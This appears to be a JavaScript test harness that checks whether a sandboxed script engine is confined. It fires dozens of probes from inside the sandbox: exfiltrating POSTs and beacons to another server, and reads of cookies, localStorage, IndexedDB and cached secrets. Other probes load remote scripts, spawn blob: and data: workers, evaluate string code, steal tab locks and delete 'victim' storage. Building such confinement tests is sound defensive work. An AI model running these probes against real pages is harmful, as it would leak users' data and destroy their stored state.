// @ts-check
/**
 * What an attacker tries who holds raw JavaScript in the engine.
 *
 * Takes: a plan: the word of the phase, the servers, addresses of Blobs of the page's; `group`, the names to try.
 * Gives: `attack(plan)`: for each probe whether it reached its aim, with what it got. `attack.families`: by name.
 * Refuses: nothing; a probe that hangs is given up after PATIENCE.
 *
 * What a probe says of itself is half of the truth. Each leaves its name wherever it gets to: in the path of a request, in the
 * name of what it stores, in what it tells a tab. The page and the server look there. So a probe that sends without being able
 * to read the answer just sends, and says nothing.
 *
 * A classic script, put before an engine's own; it leaves one name behind.
 */

/** @typedef {{ phase: string, here: string, there: string, name: string, ear: number, blob: string, scriptBlob: string, group: string[] }} Plan */
/** @typedef {{ near: string, far: string, name: string, mark: string, plan: Plan }} Aim */

/** @type {any} */ (globalThis).attack = (() => {
  const PATIENCE = 2000;
  const scope = /** @type {any} */ (globalThis);
  /** @type {Map<string, { family: string, aim: string, run: (aim: Aim) => any }>} */
  const probes = new Map();
  /** @param {string} family */
  const familyOf = (family) => (/** @type {string} */ name, /** @type {string} */ aim, /** @type {(aim: Aim) => any} */ run) => {
    if (probes.has(name)) throw new Error(`two probes are called ${name}`);
    probes.set(name, { family, aim, run });
  };
  /** @param {string} text @param {string} [type] */
  const blobUrl = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  /** @param {string} text */
  const dataUrl = (text) => `data:text/javascript,${encodeURIComponent(text)}`;
  /** The first message of a worker, or its error. @param {Worker} worker @returns {Promise<any>} */
  const heard = (worker) => new Promise((resolve, reject) => {
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = (event) => { event.preventDefault?.(); reject(new Error(event.message || 'the worker failed')); };
  });
  /** @param {IDBRequest} request @returns {Promise<any>} */
  const done = (request) => new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
    /** @type {any} */ (request).onblocked = () => reject(new Error('blocked'));
  });
  /** @param {any} target */
  const settled = (target) => new Promise((resolve, reject) => {
    target.onopen = () => resolve('open');
    target.onload = () => resolve('loaded');
    target.onmessage = () => resolve('heard');
    target.onerror = () => reject(new Error('error event'));
  });
  /** A method as its prototype has it, whatever has been put in front. @param {string} name */
  const original = (name) => {
    for (let at = Object.getPrototypeOf(scope); at !== null; at = Object.getPrototypeOf(at)) {
      if (Object.hasOwn(at, name)) return at[name].bind(scope);
    }
    throw new Error('no prototype has it');
  };
  const wasm = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]);

  // --- the network
  const network = familyOf('network');
  network('fetch-near', 'the page\'s server', async ({ near }) => (await fetch(near)).status);
  network('fetch-far', 'another server', async ({ far }) => (await fetch(far)).status);
  network('fetch-name', 'the page\'s server by another name', async ({ plan, name }) =>
    (await fetch(`${plan.name}/hit/${plan.phase}/${name}`)).status);
  network('fetch-opaque', 'a request whose answer cannot be read', async ({ far }) => (await fetch(far, { mode: 'no-cors' })).type);
  network('fetch-cookies', 'a request with the page\'s cookies', async ({ near }) =>
    (await fetch(near, { mode: 'no-cors', credentials: 'include' })).type);
  network('fetch-post', 'sending data', async ({ far }) => (await fetch(far, { method: 'POST', body: 'secret' })).status);
  network('fetch-head', 'a request without a body', async ({ far }) => (await fetch(far, { method: 'HEAD' })).status);
  network('fetch-preflight', 'the request before a request', ({ far }) =>
    fetch(far, { method: 'PUT', headers: { 'X-Secret': 'secret' }, body: 'secret' }).then(({ status }) => status));
  network('fetch-keepalive', 'a request that outlives its worker', async ({ far }) =>
    (await fetch(far, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' })).type);
  network('fetch-request', 'a Request made beforehand', async ({ far }) => (await fetch(new Request(far, { cache: 'reload' }))).status);
  network('fetch-cached', 'an answer from the browser\'s cache', async ({ near }) =>
    (await fetch(near, { cache: 'force-cache', mode: 'same-origin' })).status);
  network('fetch-original', 'fetch as the prototype has it', async ({ far }) => (await original('fetch')(far)).status);
  network('fetch-priority', 'a request at low priority, with a referrer', async ({ near }) =>
    (await fetch(near, /** @type {any} */ ({ priority: 'low', referrerPolicy: 'unsafe-url' }))).status);
  network('fetch-redirect', 'a request by way of another', async ({ plan, name }) =>
    (await fetch(`${plan.here}/hop/${plan.phase}/${name}`)).status);
  network('fetch-port', 'any port of this machine', async ({ plan }) => (await fetch(`http://127.0.0.1:${plan.ear}/`, { mode: 'no-cors' })).type);
  network('fetch-tls', 'a TLS connection', async ({ plan }) => (await fetch(`https://127.0.0.1:${plan.ear}/`, { mode: 'no-cors' })).type);
  network('fetch-blob', 'a Blob of the page\'s', async ({ plan }) => (await fetch(plan.blob)).text());
  network('xhr', 'the page\'s server', ({ near }) => {
    const request = new XMLHttpRequest();
    request.open('GET', near);
    request.send();
    return settled(request);
  });
  network('xhr-far', 'another server', ({ far }) => {
    const request = new XMLHttpRequest();
    request.open('POST', far);
    request.send('secret');
    return settled(request);
  });
  network('xhr-sync', 'a request that blocks', ({ near }) => {
    const request = new XMLHttpRequest();
    request.open('GET', near, false);
    request.send();
    return request.status;
  });
  network('xhr-blob', 'a Blob of the page\'s', ({ plan }) => {
    const request = new XMLHttpRequest();
    request.open('GET', plan.blob, false);
    request.send();
    return request.responseText;
  });
  network('websocket-near', 'a socket to the page\'s server', ({ near }) => void settled(new WebSocket(near.replace('http', 'ws'))).catch(() => {}));
  network('websocket-far', 'a socket to another server', ({ far }) =>
    void settled(new WebSocket(far.replace('http', 'ws'), ['secret'])).catch(() => {}));
  network('websocket-port', 'a socket to any port', ({ plan }) =>
    void settled(new WebSocket(`wss://127.0.0.1:${plan.ear}/`)).catch(() => {}));
  network('websocket-stream', 'a socket that is a stream', async ({ far }) => {
    await new scope.WebSocketStream(far.replace('http', 'ws')).opened.catch(() => {});
  });
  network('eventsource-near', 'a stream of the page\'s server', ({ near }) => void settled(new EventSource(near)).catch(() => {}));
  network('eventsource-far', 'a stream of another server', ({ far }) =>
    void settled(new EventSource(far, { withCredentials: true })).catch(() => {}));
  network('webtransport', 'a QUIC connection', async ({ plan }) => {
    await new WebTransport(`https://127.0.0.1:${plan.ear}/`, {
      serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }],
    }).ready.catch(() => {});
  });
  network('rtc', 'a peer, by STUN', async ({ plan }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${plan.ear}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  });
  network('beacon', 'a beacon', ({ far }) => navigator.sendBeacon(far, 'secret'));
  network('fetch-later', 'a request after the end', ({ far }) => scope.fetchLater(far).activated);
  network('font', 'a font, loaded', ({ far }) => {
    const face = new FontFace('probe', `url("${far}")`);
    face.load().catch(() => {});
  });
  network('font-near', 'a font of the page\'s server', ({ near }) => {
    const face = new FontFace('probe', `url("${near}") format("woff2"), local("x")`);
    face.load().catch(() => {});
  });
  network('font-drawn', 'a font that a picture uses', ({ near }) => {
    scope.fonts.add(new FontFace('drawn', `url("${near}")`));
    const context = /** @type {any} */ (new OffscreenCanvas(10, 10).getContext('2d'));
    context.font = '10px drawn';
    context.fillText('x', 0, 5);
    scope.fonts.load('10px drawn').catch(() => {});
  });
  network('cache-add', 'a request by the cache', async ({ near, mark }) => (await caches.open(mark)).add(near));
  network('cache-add-all', 'requests by the cache', async ({ far, mark }) =>
    (await caches.open(mark)).addAll([new Request(far, { mode: 'no-cors' })]));
  network('wasm-compile-streaming', 'code from a server', ({ far }) => void WebAssembly.compileStreaming(fetch(far)).catch(() => {}));
  network('wasm-instantiate-streaming', 'code from the page\'s server', ({ near }) =>
    void WebAssembly.instantiateStreaming(fetch(near)).catch(() => {}));

  // --- scripts from servers
  const scripts = familyOf('scripts');
  scripts('import-near', 'a module of the page\'s server', ({ near }) => void import(near).catch(() => {}));
  scripts('import-far', 'a module of another server', ({ far }) => void import(far).catch(() => {}));
  scripts('import-json', 'a JSON module', ({ near }) => import(near, { with: { type: 'json' } }).then(() => {}, () => {}));
  scripts('import-static', 'a module that a blob: module imports', ({ far }) =>
    void import(blobUrl(`import ${JSON.stringify(far)};`)).catch(() => {}));
  scripts('import-reexport', 'a module that a blob: module exports', ({ near }) =>
    void import(blobUrl(`export * from ${JSON.stringify(near)};`)).catch(() => {}));
  scripts('import-page-blob', 'a script of the page\'s by its Blob', async ({ plan }) => {
    await import(plan.scriptBlob);
    return 'loaded';
  });
  scripts('importscripts-near', 'a script of the page\'s server', ({ near }) => scope.importScripts(near));
  scripts('importscripts-far', 'a script of another server', ({ far }) => scope.importScripts(far));
  scripts('importscripts-original', 'importScripts as the prototype has it', ({ near }) => original('importScripts')(near));
  scripts('importscripts-page-blob', 'a script of the page\'s by its Blob', ({ plan }) => {
    original('importScripts')(plan.scriptBlob);
    return 'loaded';
  });
  scripts('worker-near', 'a worker of the page\'s origin', ({ near }) => void heard(new Worker(near)).catch(() => {}));
  scripts('worker-module', 'a module worker of the page\'s origin', ({ near }) =>
    void heard(new Worker(near, { type: 'module' })).catch(() => {}));
  scripts('worker-page-blob', 'a worker from the page\'s Blob', ({ plan }) =>
    heard(new Worker(plan.scriptBlob)));
  scripts('shared-worker', 'a shared worker', ({ near }) => new SharedWorker(near).port.start());
  scripts('service-worker', 'a service worker', ({ near }) => navigator.serviceWorker.register(near));

  // --- new contexts, that might have lost the policy
  const contexts = familyOf('contexts');
  /** What a worker inside the worker tries. @type {Record<string, (aim: Aim) => string>} */
  const inside = {
    fetch: ({ near }) => `fetch(${JSON.stringify(near)})`,
    xhr: ({ near }) => `const r = new XMLHttpRequest(); r.open('GET', ${JSON.stringify(near)}, false); r.send()`,
    socket: ({ far }) => `new WebSocket(${JSON.stringify(far.replace('http', 'ws'))})`,
    stream: ({ far }) => `new EventSource(${JSON.stringify(far)})`,
    scripts: ({ near }) => `importScripts(${JSON.stringify(near)})`,
    import: ({ far }) => `import(${JSON.stringify(far)})`,
    worker: ({ near }) => `new Worker(${JSON.stringify(near)})`,
    database: ({ mark }) => `indexedDB.open(${JSON.stringify(mark)}).onsuccess = () => postMessage('open')`,
    cache: ({ mark }) => `caches.open(${JSON.stringify(mark)}).then(() => postMessage('open'))`,
    channel: ({ mark }) => `new BroadcastChannel('hit').postMessage(${JSON.stringify(mark)})`,
    files: ({ mark }) => `navigator.storage.getDirectory().then((d) => d.getFileHandle(${JSON.stringify(mark)}, { create: true }))`,
    eval: () => 'postMessage(eval("6 * 7"))',
  };
  for (const [what, script] of Object.entries(inside)) {
    contexts(`inner-${what}`, `${what} in a worker from a blob:`, (aim) => {
      const worker = new Worker(blobUrl(script(aim)));
      return what === 'eval' || what === 'database' || what === 'cache' ? heard(worker) : void heard(worker).catch(() => {});
    });
  }
  contexts('inner-module', 'static import in a module worker from a blob:', ({ far }) =>
    void heard(new Worker(blobUrl(`import ${JSON.stringify(far)}`), { type: 'module' })).catch(() => {}));
  contexts('inner-inner', 'a worker in a worker in a worker', ({ near }) => {
    const third = `fetch(${JSON.stringify(near)})`;
    const second = `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(third)}])))`;
    void heard(new Worker(blobUrl(second))).catch(() => {});
  });
  contexts('data-worker', 'a worker from a data: address', ({ near }) => heard(new Worker(dataUrl(`postMessage('up'); fetch(${JSON.stringify(near)})`))));
  contexts('data-module-worker', 'a module worker from a data: address', () =>
    heard(new Worker(dataUrl('postMessage("up")'), { type: 'module' })));
  contexts('origin', 'the page\'s origin', () => (scope.origin === 'null' ? undefined : scope.origin));
  contexts('location', 'the page\'s address', ({ plan }) => (location.href.includes(plan.here) ? location.href : undefined));

  // --- storage
  const storage = familyOf('storage');
  storage('database-write', 'a database of the page\'s origin', async ({ mark }) => (await done(indexedDB.open(mark))).name);
  storage('database-list', 'the names of its databases', async () => JSON.stringify(await indexedDB.databases()));
  storage('database-read', 'what a database has', async ({ plan }) => {
    const db = await done(indexedDB.open(`page-${plan.phase}`));
    const value = await done(db.transaction('secrets').objectStore('secrets').get('secret'));
    db.close();
    return value;
  });
  storage('database-delete', 'the end of a database', async ({ plan }) => {
    await done(indexedDB.deleteDatabase(`victim-${plan.phase}`));
    return 'deleted';
  });
  storage('cache-write', 'a cache of the page\'s origin', async ({ near, mark }) => {
    await (await caches.open(mark)).put(near, new Response('secret'));
    return 'written';
  });
  storage('cache-read', 'what a cache has', async ({ plan }) => (await (await caches.open(`page-${plan.phase}`)).match(`${plan.here}/secret`))?.text());
  storage('cache-list', 'the names of its caches', async () => JSON.stringify(await caches.keys()));
  storage('cache-delete', 'the end of a cache', async ({ plan }) => (await caches.delete(`victim-${plan.phase}`)) || undefined);
  storage('files-write', 'a private file of the page\'s origin', async ({ mark }) => {
    await (await navigator.storage.getDirectory()).getFileHandle(mark, { create: true });
    return 'written';
  });
  storage('files-read', 'what a private file has', async ({ plan }) => {
    const file = await (await navigator.storage.getDirectory()).getFileHandle(`page-${plan.phase}`);
    return (await file.getFile()).text();
  });
  storage('files-sync', 'a private file, opened to block', async ({ mark }) => {
    const file = await (await navigator.storage.getDirectory()).getFileHandle(mark, { create: true });
    const handle = await /** @type {any} */ (file).createSyncAccessHandle();
    handle.write(new Uint8Array([1]));
    handle.close();
    return 'written';
  });
  storage('files-delete', 'the end of a private file', async ({ plan }) => {
    await (await navigator.storage.getDirectory()).removeEntry(`victim-${plan.phase}`);
    return 'deleted';
  });
  storage('estimate', 'how much the origin stores', async () => JSON.stringify(await navigator.storage.estimate()));
  storage('persisted', 'whether the origin\'s storage stays', async () => String(await navigator.storage.persisted()));
  storage('bucket-write', 'a bucket of the page\'s origin', async ({ mark }) =>
    (await /** @type {any} */ (navigator).storageBuckets.open(mark)).name);
  storage('bucket-list', 'the names of its buckets', async () => JSON.stringify(await /** @type {any} */ (navigator).storageBuckets.keys()));
  storage('old-files', 'the old file system of the page\'s origin', () =>
    scope.webkitRequestFileSystemSync(0, 1024).root.getFile('hit', { create: true }).name);
  storage('cookie-store', 'the page\'s cookies', async () => JSON.stringify(await scope.cookieStore.getAll()));
  storage('local-storage', 'the page\'s local storage', () => scope.localStorage.getItem('secret'));

  // --- code from strings
  const code = familyOf('code');
  code('eval', 'eval', () => eval('6 * 7'));
  code('eval-indirect', 'eval at the top', () => (0, eval)('6 * 7'));
  code('function', 'Function', () => Function('return 6 * 7')());
  code('function-new', 'new Function', () => new Function('a', 'return a * 7')(6));
  code('function-constructor', 'the constructor of any function', () => (() => {}).constructor('return 6 * 7')());
  code('function-reflect', 'Function through Reflect', () => Reflect.construct(Function, ['return 6 * 7'])());
  code('function-subclass', 'a class that extends Function', () => new (class extends Function {})('return 6 * 7')());
  code('function-async', 'an async function\'s constructor', () => (async () => {}).constructor('return 6 * 7')());
  code('function-generator', 'a generator\'s constructor', () => (function* () {}).constructor('yield 42')().next().value);
  code('function-async-generator', 'an async generator\'s constructor', async () =>
    (await (async function* () {}).constructor('yield 42')().next()).value);
  /** @param {(handler: string) => unknown} start */
  const timed = (start) => new Promise((resolve) => {
    const name = `fired${Math.random().toString(36).slice(2)}`;
    scope[name] = () => resolve('fired');
    start(`${name}()`);
  });
  code('timeout', 'setTimeout with a string', () => timed((handler) => setTimeout(handler)));
  code('interval', 'setInterval with a string', () => timed((handler) => {
    const id = setInterval(handler);
    setTimeout(() => clearInterval(id), 100);
  }));
  code('import-data', 'a module from a data: address', async () => (await import(dataUrl('export default 42'))).default);
  code('importscripts-data', 'a script from a data: address', () => {
    original('importScripts')(dataUrl('globalThis.fromData = 42'));
    return scope.fromData;
  });
  code('shadow-realm', 'a realm of its own', () => new scope.ShadowRealm().evaluate('6 * 7'));

  // --- other tabs
  const tabs = familyOf('tabs');
  tabs('channel-say', 'telling a tab', ({ mark }) => new BroadcastChannel('hit').postMessage(mark));
  tabs('channel-hear', 'hearing a tab', () => settled(new BroadcastChannel('talk')));
  tabs('lock-see', 'what a tab holds', async () =>
    (await navigator.locks.query()).held?.some(({ name }) => name === 'tab') ? 'seen' : undefined);
  tabs('lock-take', 'holding what a tab sees', ({ mark }) =>
    void navigator.locks.request(mark, () => new Promise(() => {})).catch(() => {}));
  tabs('lock-steal', 'taking what a tab holds', async ({ plan }) =>
    navigator.locks.request(`tab-${plan.phase}`, { steal: true }, () => 'stolen'));
  tabs('database-upgrade', 'an event in a tab, by its database', ({ plan }) => void indexedDB.open(`tab-${plan.phase}`, 2));
  tabs('openers', 'the windows of the origin', async () => scope.clients.matchAll());
  tabs('open-window', 'a window', () => scope.open('/'));

  // --- what the page or its user has granted to the origin
  const powers = familyOf('powers');
  powers('usb', 'devices', async () => JSON.stringify(await /** @type {any} */ (navigator).usb.getDevices()));
  powers('hid', 'devices', async () => JSON.stringify(await /** @type {any} */ (navigator).hid.getDevices()));
  powers('serial', 'ports', async () => JSON.stringify(await /** @type {any} */ (navigator).serial.getPorts()));
  powers('notification', 'a notification', async ({ far }) =>
    settled(new Notification('x', { icon: far })));
  powers('pressure', 'what the processor does', async () => {
    await new scope.PressureObserver(() => {}).observe('cpu');
    return 'observing';
  });

  /** @param {string} name @param {(aim: Aim) => any} run @param {Plan} plan */
  async function one(name, run, plan) {
    const hit = `/hit/${plan.phase}/${name}`;
    const aim = { near: plan.here + hit, far: plan.there + hit, name, mark: `hit-${plan.phase}-${name}`, plan };
    /** @type {ReturnType<typeof setTimeout> | undefined} */
    let timer;
    const late = new Promise((resolve) => { timer = setTimeout(() => resolve(undefined), PATIENCE, undefined); });
    try {
      const got = await Promise.race([run(aim), late]);
      return { reached: got !== undefined && got !== null && got !== false, got: String(got).slice(0, 200) };
    } catch (error) {
      return { reached: false, got: String(error).slice(0, 200) };
    } finally {
      clearTimeout(timer);
    }
  }

  /** @param {Plan} plan */
  async function attack(plan) {
    const chosen = [...probes].filter(([name]) => plan.group.includes(name));
    const found = await Promise.all(chosen.map(async ([name, { family, aim, run }]) => [name, { family, aim, ...await one(name, run, plan) }]));
    // What was sent without waiting gets the time to arrive.
    await new Promise((resolve) => setTimeout(resolve, 500));
    return Object.fromEntries(found);
  }
  return Object.assign(attack, { families: Object.fromEntries([...probes].map(([name, { family }]) => [name, family])) });
})();
